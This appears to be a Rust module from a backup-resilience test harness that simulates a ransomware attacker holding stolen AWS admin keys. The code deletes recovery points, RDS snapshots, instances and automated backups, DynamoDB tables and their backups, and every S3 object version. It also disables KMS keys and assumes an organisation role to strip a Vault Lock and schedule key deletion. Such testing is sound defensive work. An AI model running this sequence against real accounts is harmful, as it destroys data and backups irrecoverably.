//! [`super::Fault::StolenAdminKeys`]: ransomware with the production
//! account's admin keys, played through the official SDKs as the attacker
//! would play it, in the order that leaves the least behind:
//!
//! 1. every recovery point of the store's AWS Backup vault, in its region
//!    and every region the plan copies to (`DeleteRecoveryPoint`);
//! 2. the orders database's manual snapshots, its read replica, the
//!    instance itself with `SkipFinalSnapshot` and `DeleteAutomatedBackups`
//!    (point-in-time restore goes with them), and the automated backups
//!    retained or replicated in any region;
//! 3. the DynamoDB tables (PITR goes with them) and then every backup of
//!    them, the `SYSTEM` backups DynamoDB kept of the deleted tables
//!    included;
//! 4. every version and delete marker of every bucket (versioning saves
//!    nothing from a `DeleteObjects` that names the versions);
//! 5. the vault keys: `DisableKey` in every region;
//! 6. the backup account. With the production keys alone the attacker
//!    reads the copy jobs (AWS lists a cross-account copy in both
//!    accounts), learns the destination recovery points and tries to
//!    delete them: the other account's vault is not theirs to touch. With
//!    `reach_backup_account` they also assume a role in it (the emulator
//!    evaluates no trust policy: the worst case, an organisation's admin
//!    role) and try to remove the Vault Lock, delete the points and
//!    schedule the deletion of that vault's key: a compliance-mode lock
//!    past its grace period refuses the first two, and the key's pending
//!    window is what the team's runbook has to catch
//!    ([`crate::recovery::Runbook::BackupAccountRestore`] cancels it).
//!
//! Each data deletion is a nemesis write in the history (every row, item
//! and object it removed); what it does to the backups is a configuration
//! event, and the fault's detail counts both.

use super::{Nemesis, key_or_vault_key};
use crate::history::{Collection, EventKind, Key, Layer, Write};
use crate::model::{Store, canonical_attribute, list_versions, scan_table};
use crate::target::{Clients, Target};
use anyhow::{Context, anyhow};
use std::collections::BTreeSet;

/// The role an attacker assumes in the backup account when
/// `reach_backup_account` is set: the one AWS Organizations creates in
/// every member account.
pub const ORGANIZATION_ROLE: &str = "OrganizationAccountAccessRole";

/// What the attack did, counted for the fault's detail.
#[derive(Debug, Default)]
struct Tally {
    recovery_points: u32,
    snapshots: u32,
    automated_backups: u32,
    instances: Vec<String>,
    tables: Vec<String>,
    table_backups: u32,
    object_versions: u32,
    keys_disabled: Vec<String>,
    /// What happened in the backup account, a sentence per attempt.
    backup_account: Vec<String>,
}

/// Plays the attack; returns the records it destroyed and what it did.
pub(super) async fn strike(
    target: &dyn Target,
    store: &Store,
    nemesis: &mut Nemesis<'_, '_>,
    reach_backup_account: bool,
) -> anyhow::Result<(u64, String)> {
    let clients = store.clients(target);
    let mut regions: BTreeSet<String> = BTreeSet::from([store.region.clone()]);
    if let Some(r) = target.secondary_region() {
        regions.insert(r.to_owned());
    }
    let mut tally = Tally::default();
    let mut records = 0u64;

    // Read first, without harm: what the deletes will take.
    let mut db = store.orders_db(target).await?;
    let mut rows = Vec::new();
    for c in Collection::ALL.into_iter().filter(|c| c.layer() == Layer::Rds) {
        rows.extend(db.read_ids(c).await?.into_iter().map(|id| Key::new(c, id)));
    }
    drop(db);
    nemesis.strike_now(format!(
        "stolen admin keys: DeleteRecoveryPoint of the vault {} in {} regions, then the data",
        store.names.backup_vault,
        regions.len()
    ));

    // 1. The recovery points, before anything they could restore is gone.
    for region in &regions {
        let remote = Clients::new(target, region);
        tally.recovery_points += delete_recovery_points(&remote.backup, &store.names.backup_vault).await?;
    }
    config_event(
        nemesis,
        format!(
            "attacker: deleted {} recovery points of vault {}",
            tally.recovery_points, store.names.backup_vault
        ),
    );

    // 2. The orders database and everything it could be restored from.
    tally.snapshots = delete_manual_snapshots(&clients.rds, &store.names.db_instance).await?;
    if let Some(replica) = &store.names.orders_replica {
        let remote = Clients::new(target, &replica.region);
        delete_instance(&remote.rds, &replica.db_instance).await?;
        tally.instances.push(replica.db_instance.clone());
    }
    let n = rows.len() as u64;
    let writes = rows.into_iter().map(Write::delete).collect();
    let rds = clients.rds.clone();
    let id = store.names.db_instance.clone();
    nemesis
        .write(writes, async move { delete_instance(&rds, &id).await })
        .await?;
    records += n;
    tally.instances.push(store.names.db_instance.clone());
    for region in &regions {
        let remote = Clients::new(target, region);
        tally.automated_backups += delete_automated_backups(&remote.rds, &store.names.db_instance).await?;
    }

    // 3. The tables, then their backups (DeleteTable leaves a SYSTEM one).
    for (collection, table) in store.names.dynamodb_tables() {
        let id_attr = if collection == Collection::Carts {
            "cart_id"
        } else {
            "session_id"
        };
        let Some(items) = scan_table(&clients.dynamodb, table).await? else {
            continue;
        };
        let writes: Vec<Write> = items
            .iter()
            .filter_map(|i| i.get(id_attr).map(canonical_attribute))
            .map(|id| Write::delete(Key::new(collection, id)))
            .collect();
        records += writes.len() as u64;
        let ddb = clients.dynamodb.clone();
        let name = table.to_owned();
        nemesis
            .write(writes, async move {
                ddb.delete_table()
                    .table_name(name)
                    .send()
                    .await
                    .map_err(|e| anyhow::Error::new(e.into_service_error()))?;
                Ok(())
            })
            .await?;
        tally.tables.push(table.to_owned());
        tally.table_backups += delete_table_backups(&clients.dynamodb, table).await?;
    }

    // 4. Every version of every object.
    for (collection, bucket) in store.names.buckets() {
        let Some(versions) = list_versions(&clients.s3, bucket).await? else {
            continue;
        };
        let current: BTreeSet<&str> = versions
            .iter()
            .filter(|v| v.is_latest && !v.delete_marker)
            .map(|v| v.key.as_str())
            .collect();
        records += current.len() as u64;
        let writes = current
            .iter()
            .map(|k| Write::delete(Key::new(collection, *k)))
            .collect();
        let pairs: Vec<(String, String)> = versions
            .iter()
            .map(|v| (v.key.clone(), v.version_id.clone()))
            .collect();
        tally.object_versions += pairs.len() as u32;
        let s3 = clients.s3.clone();
        let bucket = bucket.to_owned();
        nemesis
            .write(writes, async move { delete_versions(&s3, &bucket, &pairs).await })
            .await?;
    }

    // 5. The vault keys, so a point that survived decrypts nothing.
    for region in &regions {
        let remote = Clients::new(target, region);
        let Ok(key) = key_or_vault_key(&remote, store, None).await else {
            continue;
        };
        if remote.kms.disable_key().key_id(&key).send().await.is_ok() {
            tally.keys_disabled.push(key);
        }
    }
    config_event(
        nemesis,
        format!("attacker: disabled {} vault keys", tally.keys_disabled.len()),
    );

    // 6. The backup account.
    attack_backup_account(target, store, &regions, reach_backup_account, &mut tally).await?;
    for line in &tally.backup_account {
        config_event(nemesis, format!("attacker: {line}"));
    }

    Ok((records, describe(&tally, records)))
}

fn config_event(nemesis: &mut Nemesis<'_, '_>, detail: String) {
    let at = nemesis.target.now();
    nemesis.history.event(at, EventKind::Config { detail });
}

fn describe(t: &Tally, records: u64) -> String {
    let mut s = format!(
        "with the production account's admin keys: deleted {} recovery points, {} RDS snapshots, {} automated backups, the instances {}, the tables {} and {} of their backups, {} object versions ({records} records gone), and disabled {} vault keys",
        t.recovery_points,
        t.snapshots,
        t.automated_backups,
        t.instances.join(", "),
        t.tables.join(", "),
        t.table_backups,
        t.object_versions,
        t.keys_disabled.len()
    );
    for line in &t.backup_account {
        s.push_str("; ");
        s.push_str(line);
    }
    s
}

/// Deletes every recovery point of `vault` it may; returns how many went.
/// A missing vault is nothing to delete; a point a lock or a policy keeps
/// is left (counted by the caller as what survived).
async fn delete_recovery_points(backup: &aws_sdk_backup::Client, vault: &str) -> anyhow::Result<u32> {
    let arns = match list_points(backup, vault).await? {
        Some(a) => a,
        None => return Ok(0),
    };
    let mut deleted = 0;
    for arn in arns {
        if backup
            .delete_recovery_point()
            .backup_vault_name(vault)
            .recovery_point_arn(&arn)
            .send()
            .await
            .is_ok()
        {
            deleted += 1;
        }
    }
    Ok(deleted)
}

/// The recovery point ARNs of `vault`, or `None` when the caller sees no
/// such vault.
async fn list_points(backup: &aws_sdk_backup::Client, vault: &str) -> anyhow::Result<Option<Vec<String>>> {
    let mut pages = backup
        .list_recovery_points_by_backup_vault()
        .backup_vault_name(vault)
        .into_paginator()
        .items()
        .send();
    let mut arns = Vec::new();
    while let Some(p) = pages.next().await {
        match p {
            Ok(p) => arns.extend(p.recovery_point_arn),
            Err(e) => {
                let e = e.into_service_error();
                if e.is_resource_not_found_exception() {
                    return Ok(None);
                }
                return Err(anyhow::Error::new(e).context(format!("ListRecoveryPointsByBackupVault {vault}")));
            }
        }
    }
    Ok(Some(arns))
}

async fn delete_manual_snapshots(rds: &aws_sdk_rds::Client, instance: &str) -> anyhow::Result<u32> {
    let snapshots = rds
        .describe_db_snapshots()
        .db_instance_identifier(instance)
        .snapshot_type("manual")
        .send()
        .await
        .map_err(|e| anyhow::Error::new(e.into_service_error()))
        .context("DescribeDBSnapshots")?;
    let mut n = 0;
    for s in snapshots.db_snapshots() {
        if let Some(id) = s.db_snapshot_identifier()
            && rds
                .delete_db_snapshot()
                .db_snapshot_identifier(id)
                .send()
                .await
                .is_ok()
        {
            n += 1;
        }
    }
    Ok(n)
}

async fn delete_instance(rds: &aws_sdk_rds::Client, id: &str) -> anyhow::Result<()> {
    rds.delete_db_instance()
        .db_instance_identifier(id)
        .skip_final_snapshot(true)
        .delete_automated_backups(true)
        .send()
        .await
        .map_err(|e| anyhow::Error::new(e.into_service_error()))
        .with_context(|| format!("DeleteDBInstance {id}"))?;
    Ok(())
}

/// Deletes the automated backups of `instance` retained or replicated in
/// the client's region; returns how many went.
async fn delete_automated_backups(rds: &aws_sdk_rds::Client, instance: &str) -> anyhow::Result<u32> {
    let Ok(found) = rds.describe_db_instance_automated_backups().send().await else {
        return Ok(0);
    };
    let mut n = 0;
    for b in found.db_instance_automated_backups() {
        if b.db_instance_identifier() != Some(instance) {
            continue;
        }
        if let Some(id) = b.dbi_resource_id()
            && rds
                .delete_db_instance_automated_backup()
                .dbi_resource_id(id)
                .send()
                .await
                .is_ok()
        {
            n += 1;
        }
    }
    Ok(n)
}

async fn delete_table_backups(ddb: &aws_sdk_dynamodb::Client, table: &str) -> anyhow::Result<u32> {
    let backups = ddb
        .list_backups()
        .table_name(table)
        .backup_type(aws_sdk_dynamodb::types::BackupTypeFilter::All)
        .send()
        .await
        .map_err(|e| anyhow::Error::new(e.into_service_error()))
        .with_context(|| format!("ListBackups {table}"))?;
    let mut n = 0;
    for b in backups.backup_summaries() {
        if let Some(arn) = b.backup_arn()
            && ddb.delete_backup().backup_arn(arn).send().await.is_ok()
        {
            n += 1;
        }
    }
    Ok(n)
}

async fn delete_versions(
    s3: &aws_sdk_s3::Client,
    bucket: &str,
    versions: &[(String, String)],
) -> anyhow::Result<()> {
    use aws_sdk_s3::types::{Delete, ObjectIdentifier};
    for chunk in versions.chunks(1000) {
        let objects = chunk
            .iter()
            .map(|(k, v)| ObjectIdentifier::builder().key(k).version_id(v).build())
            .collect::<Result<Vec<_>, _>>()?;
        let resp = s3
            .delete_objects()
            .bucket(bucket)
            .delete(Delete::builder().set_objects(Some(objects)).quiet(true).build()?)
            .send()
            .await
            .map_err(|e| anyhow::Error::new(e.into_service_error()))
            .with_context(|| format!("DeleteObjects of versions in {bucket}"))?;
        if let Some(errors) = resp.errors.filter(|e| !e.is_empty()) {
            anyhow::bail!(
                "DeleteObjects left {} versions in {bucket}: {:?}",
                errors.len(),
                errors.first()
            );
        }
    }
    Ok(())
}

/// The cross-account copies the production account can see: the
/// destination vault ARN and recovery point of each completed copy job
/// whose destination is in another account.
async fn copies_in_other_accounts(
    backup: &aws_sdk_backup::Client,
    own_account: &str,
) -> anyhow::Result<Vec<(String, String)>> {
    let mut pages = backup.list_copy_jobs().into_paginator().items().send();
    let mut out = Vec::new();
    while let Some(job) = pages.next().await {
        let job = job.map_err(|e| anyhow::Error::new(e.into_service_error()))?;
        let (Some(vault), Some(point)) = (
            job.destination_backup_vault_arn,
            job.destination_recovery_point_arn,
        ) else {
            continue;
        };
        if crate::policy::arn_account(&vault).is_some_and(|a| a != own_account) {
            out.push((vault, point));
        }
    }
    Ok(out)
}

/// Step 6: what the attacker tries in the backup account.
async fn attack_backup_account(
    target: &dyn Target,
    store: &Store,
    regions: &BTreeSet<String>,
    reach: bool,
    tally: &mut Tally,
) -> anyhow::Result<()> {
    let clients = store.clients(target);
    let own = clients.account_id().await?;
    let mut copies = Vec::new();
    for region in regions {
        copies.extend(copies_in_other_accounts(&Clients::new(target, region).backup, &own).await?);
    }
    if copies.is_empty() {
        tally
            .backup_account
            .push("found no copy in another account".to_owned());
        return Ok(());
    }
    // With the production keys: the other account's vault is not theirs.
    let mut refused = 0;
    for (vault_arn, point) in &copies {
        let (region, name) = vault_region_and_name(vault_arn)?;
        let remote = Clients::new(target, &region);
        if remote
            .backup
            .delete_recovery_point()
            .backup_vault_name(&name)
            .recovery_point_arn(point)
            .send()
            .await
            .is_err()
        {
            refused += 1;
        }
    }
    tally.backup_account.push(format!(
        "with the production keys, {refused} of {} DeleteRecoveryPoint calls on the backup account's copies were refused",
        copies.len()
    ));
    if !reach {
        return Ok(());
    }

    // Into the backup account through an assumed role.
    let (vault_arn, _) = copies.first().ok_or_else(|| anyhow!("no copy"))?;
    let account = crate::policy::arn_account(vault_arn)
        .unwrap_or_default()
        .to_owned();
    let (region, vault) = vault_region_and_name(vault_arn)?;
    let role = format!("arn:aws:iam::{account}:role/{ORGANIZATION_ROLE}");
    let assumed = clients
        .sts
        .assume_role()
        .role_arn(&role)
        .role_session_name("attacker")
        .send()
        .await
        .map_err(|e| anyhow::Error::new(e.into_service_error()))
        .with_context(|| format!("AssumeRole {role}"))?;
    let creds = assumed
        .credentials
        .ok_or_else(|| anyhow!("AssumeRole {role} returned no credentials"))?;
    let config = target
        .sdk_config(&region)
        .to_builder()
        .credentials_provider(aws_credential_types::provider::SharedCredentialsProvider::new(
            aws_credential_types::Credentials::new(
                creds.access_key_id,
                creds.secret_access_key,
                Some(creds.session_token),
                None,
                "stolen-keys-assumed-role",
            ),
        ))
        .build();
    let inside = Clients::from_config(&config, &region);
    let lock = match inside
        .backup
        .delete_backup_vault_lock_configuration()
        .backup_vault_name(&vault)
        .send()
        .await
    {
        Ok(_) => "removed the Vault Lock".to_owned(),
        Err(e) => format!(
            "could not remove the Vault Lock ({})",
            error_code(&e.into_service_error())
        ),
    };
    let points = list_points(&inside.backup, &vault).await?.unwrap_or_default();
    let deleted = delete_recovery_points(&inside.backup, &vault).await?;
    let key = inside.vault_key_arn(&vault).await.ok().flatten();
    let key_line = match key {
        Some(k) => match inside
            .kms
            .schedule_key_deletion()
            .key_id(&k)
            .pending_window_in_days(7)
            .send()
            .await
        {
            Ok(_) => format!("scheduled the deletion of its key {k} (7 days)"),
            Err(e) => format!(
                "could not schedule the deletion of its key {k} ({})",
                error_code(&e.into_service_error())
            ),
        },
        None => "found no key on it".to_owned(),
    };
    tally.backup_account.push(format!(
        "in account {account} as {role}: {lock}, deleted {deleted} of {} recovery points of {vault}, {key_line}",
        points.len()
    ));
    Ok(())
}

/// The region and name in a vault ARN (`arn:aws:backup:REGION:ACCOUNT:backup-vault:NAME`).
fn vault_region_and_name(arn: &str) -> anyhow::Result<(String, String)> {
    let parts: Vec<&str> = arn.split(':').collect();
    match (parts.get(3), parts.get(6)) {
        (Some(region), Some(name)) if !region.is_empty() && !name.is_empty() => {
            Ok(((*region).to_owned(), (*name).to_owned()))
        }
        _ => Err(anyhow!("{arn} is not a backup vault ARN")),
    }
}

/// An SDK error's AWS code, for a sentence.
fn error_code<E: aws_sdk_backup::error::ProvideErrorMetadata>(e: &E) -> String {
    match (e.code(), e.message()) {
        (Some(c), Some(m)) => format!("{c}: {m}"),
        (Some(c), None) => c.to_owned(),
        _ => "refused".to_owned(),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn vault_arns_yield_region_and_name() {
        assert_eq!(
            vault_region_and_name("arn:aws:backup:us-east-1:222222222222:backup-vault:shop-vault-locked")
                .unwrap(),
            ("us-east-1".to_owned(), "shop-vault-locked".to_owned())
        );
        assert!(vault_region_and_name("arn:aws:backup:us-east-1:222222222222").is_err());
    }
}
